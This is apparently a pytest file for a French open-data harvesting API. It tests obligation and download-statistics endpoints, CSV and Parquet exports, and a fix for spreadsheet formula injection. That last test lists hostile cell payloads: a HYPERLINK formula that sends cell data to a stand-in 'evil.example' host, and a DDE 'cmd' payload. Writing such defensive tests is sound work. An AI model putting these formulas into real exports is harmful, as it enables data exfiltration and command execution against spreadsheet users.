"""The obligation and statistics APIs over a real store: filters, CSV and Parquet exports, summaries that add up,
unmatched publishers, validation errors."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from fastapi.testclient import TestClient

from api.app import create_app
from index.obligations import take_snapshot
from index.store import JobCounts, Store
from normalise.model import Agent, Dataset, Distribution, SchemaRef, Spatial

LYON = Spatial(communes=["69123"], departements=["69"], regions=["84"])


def _ds(n: int, source: str, publisher: str, downloads: int, **fields) -> Dataset:
    return Dataset(id=f"{source}.{n}", source_id=source, native_id=str(n), title=f"Jeu {n}",
                   publisher=Agent(name=publisher), metrics={"downloads": downloads}, **fields)


def _harvest(store: Store, source: str, at: str, records: list[Dataset]) -> None:
    with store.transaction():
        job = store.start_job(source, "full")
        for record in records:
            store.upsert_entry(record, record.native_id, job)
            store.add_metric_samples(record, job, at)
    store.finish_job(job, "succeeded", JobCounts())


@pytest.fixture
def client(tmp_path: Path) -> Iterator[TestClient]:
    store = Store(tmp_path / "moisson.db")
    subventions = [Distribution(access_url="https://x/2", schema=SchemaRef(name="scdl/subventions"))]
    first = [
        _ds(1, "grandlyon", "Métropole de Lyon", 100, spatial=[LYON]),  # about Lyon alone: Lyon's shared portal
        _ds(2, "grandlyon", "Ville de Lyon", 50, distributions=subventions),
        _ds(3, "bzh", "Région Bretagne", 10),
        _ds(4, "bzh", "Syndicat mixte Mégalis", 5),
    ]
    _harvest(store, "grandlyon", "2026-01-10T00:00:00+00:00", first[:2])
    _harvest(store, "bzh", "2026-01-10T00:00:00+00:00", first[2:])
    _harvest(store, "grandlyon", "2026-02-10T00:00:00+00:00",
             [_ds(1, "grandlyon", "Métropole de Lyon", 130, spatial=[LYON]),
              _ds(2, "grandlyon", "Ville de Lyon", 20, distributions=subventions)])
    _harvest(store, "bzh", "2026-03-10T00:00:00+00:00",
             [_ds(3, "bzh", "Région Bretagne", 17), _ds(4, "bzh", "Syndicat mixte Mégalis", 5)])
    take_snapshot(store, day="2026-03-01")
    store.close()
    with TestClient(create_app(tmp_path / "moisson.db")) as test_client:
        yield test_client


def test_obligations_filters_and_csv(client: TestClient) -> None:
    body = client.get("/api/obligations", params={"status": "compliant"}).json()
    assert body["total"] == 3
    assert {i["id"]: i["status"] for i in body["items"]} == {
        "region:53": "publishes", "epci:200046977": "publishes", "commune:69123": "publishes"}
    lyon = next(i for i in body["items"] if i["id"] == "commune:69123")
    assert (lyon["datasets"], lyon["shared_datasets"], lyon["shared_by"]) == (1, 1, ["epci:200046977"])
    assert lyon["schemas"] == ["scdl/subventions"] and lyon["sources"] == ["grandlyon"]
    page = client.get("/api/obligations", params={"departement": "69", "type": "commune", "limit": 5}).json()
    assert page["total"] > 20 and len(page["items"]) == 5 and all(i["departement"] == "69" for i in page["items"])
    response = client.get("/api/obligations", params={"region": "53", "format": "csv"})
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == client.get("/api/obligations", params={"region": "53"}).json()["total"]
    assert {r["id"] for r in rows if r["status"] == "publishes"} == {"region:53"}
    assert client.get("/api/obligations", params={"status": "maybe"}).status_code == 422


def test_obligations_summary_adds_up(client: TestClient) -> None:
    summary = client.get("/api/obligations/summary").json()
    national = summary["national"]
    assert (national["bodies"], national["direct"], national["shared"], national["compliant"]) == (4267, 3, 0, 3)
    for table in ("by_type", "by_region"):
        assert sum(r["bodies"] for r in summary[table]) == national["bodies"]
        assert sum(r["compliant"] for r in summary[table]) == national["compliant"]
    assert [(p["day"], p["compliant"]) for p in summary["trend"]] == [("2026-03-01", 3)]
    assert summary["unmatched_publishers"] == 1
    trend = client.get("/api/obligations/trend", params={"scope": "region:53"}).json()
    assert trend == [{"day": "2026-03-01", "bodies": trend[0]["bodies"], "direct": 1, "shared": 0, "datasets": 1,
                      "compliant": 1, "rate": trend[0]["rate"]}]


def test_unmatched_publishers_are_listed(client: TestClient) -> None:
    unmatched = client.get("/api/obligations/publishers", params={"matched": "false"}).json()
    assert [(u["publisher"], u["rule"]) for u in unmatched] == [("Syndicat mixte Mégalis", "other-body")]
    matched = client.get("/api/obligations/publishers", params={"matched": "true"}).json()
    assert {(m["publisher"], m["body"], m["rule"]) for m in matched} == {
        ("Métropole de Lyon", "epci:200046977", "name:epci"), ("Ville de Lyon", "commune:69123", "name:commune"),
        ("Région Bretagne", "region:53", "name:region")}


def test_download_statistics_json_csv_parquet(client: TestClient) -> None:
    body = client.get("/api/stats/downloads", params={"by": "source", "granularity": "month"}).json()
    # baselines excluded; Ville de Lyon's counter went from 50 to 20: a reset, 20 counted
    assert {a["key"]: a["downloads"] for a in body["aggregates"]} == {"grandlyon": 30 + 20, "bzh": 7}
    assert body["downloads"] == 57
    assert [(p["period"], p["downloads"]) for p in body["trend"]] == [("2026-02", 50), ("2026-03", 7)]
    national = client.get("/api/stats/downloads").json()
    assert national["aggregates"][0]["downloads"] == 57 and national["aggregates"][0]["total"] == 130 + 20 + 17 + 5
    february = client.get("/api/stats/downloads", params={"start": "2026-02-01", "end": "2026-03-01"}).json()
    assert february["aggregates"][0]["downloads"] == 50
    text = client.get("/api/stats/downloads", params={"by": "publisher", "format": "csv"}).text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {r["key"]: int(r["downloads"]) for r in rows} == {"Métropole de Lyon": 30, "Ville de Lyon": 20,
                                                               "Région Bretagne": 7, "Syndicat mixte Mégalis": 0}
    response = client.get("/api/stats/downloads", params={"by": "source", "format": "parquet"})
    assert response.headers["content-type"] == "application/vnd.apache.parquet"
    table = pq.read_table(io.BytesIO(response.content))
    assert table.column_names == ["by", "key", "downloads", "total", "datasets"]
    assert dict(zip(table.column("key").to_pylist(), table.column("downloads").to_pylist(), strict=True)) == {
        "grandlyon": 50, "bzh": 7}
    trend = pq.read_table(io.BytesIO(client.get("/api/stats/downloads", params={
        "table": "trend", "format": "parquet", "granularity": "year"}).content))
    assert trend.to_pylist() == [{"period": "2026", "downloads": 57}]
    assert client.get("/api/stats/downloads", params={"by": "colour"}).status_code == 422
    assert client.get("/api/stats/downloads", params={"start": "yesterday"}).status_code == 422


def test_top_datasets(client: TestClient) -> None:
    top = client.get("/api/stats/top", params={"limit": 2}).json()
    assert [(t["id"], t["downloads"]) for t in top] == [("grandlyon.1", 30), ("grandlyon.2", 20)]
    rows = list(csv.DictReader(io.StringIO(client.get("/api/stats/top", params={"format": "csv"}).text)))
    assert [r["id"] for r in rows] == ["grandlyon.1", "grandlyon.2", "bzh.3"]


def test_pages_answer(client: TestClient) -> None:
    page = client.get("/obligations", params={"region": "84"})
    assert page.status_code == 200 and "Organismes — région Auvergne-Rhône-Alpes" in page.text and "Lyon" in page.text
    stats = client.get("/stats")
    assert stats.status_code == 200 and "class='chart line'" in stats.text


HOSTILE = ['=HYPERLINK("https://evil.example/?x="&A1,"clic")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1"]


def _cells_start_with_a_formula(text: str) -> list[str]:
    rows = csv.reader(io.StringIO(text, newline=""))
    return [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_csv_exports_never_start_a_cell_with_a_formula(tmp_path: Path) -> None:
    """Finding 5: harvested titles and publishers beginning with =, +, -, @ were written as-is into the CSV exports
    (a spreadsheet runs them). Each such cell now starts with a quote, which spreadsheets show and never run."""
    from index.obligations import BodyStatus, to_csv

    store = Store(tmp_path / "moisson.db")
    records = [Dataset(id=f"evil.{n}", source_id="evil", native_id=str(n), title=text, publisher=Agent(name=text),
                       metrics={"downloads": n}) for n, text in enumerate(HOSTILE)]
    _harvest(store, "evil", "2026-01-10T00:00:00+00:00", records)
    _harvest(store, "evil", "2026-02-10T00:00:00+00:00",
             [r.model_copy(update={"metrics": {"downloads": 10 + n}}) for n, r in enumerate(records)])
    store.close()
    with TestClient(create_app(tmp_path / "moisson.db")) as client:
        top = client.get("/api/stats/top", params={"format": "csv", "limit": 100}).text
        by_publisher = client.get("/api/stats/downloads", params={"by": "publisher", "format": "csv"}).text
    assert _cells_start_with_a_formula(top) == [] and _cells_start_with_a_formula(by_publisher) == []
    titles = {row["title"] for row in csv.DictReader(io.StringIO(top, newline=""))}
    assert titles == {"'" + text for text in HOSTILE}  # kept whole, only defused
    body = BodyStatus(id="commune:1", type="commune", nature="", name="=1+1", siren="1", population=1,
                      departement="69", region="84", zone="", publishers=HOSTILE, sources=["@evil"])
    assert _cells_start_with_a_formula(to_csv([body])) == []
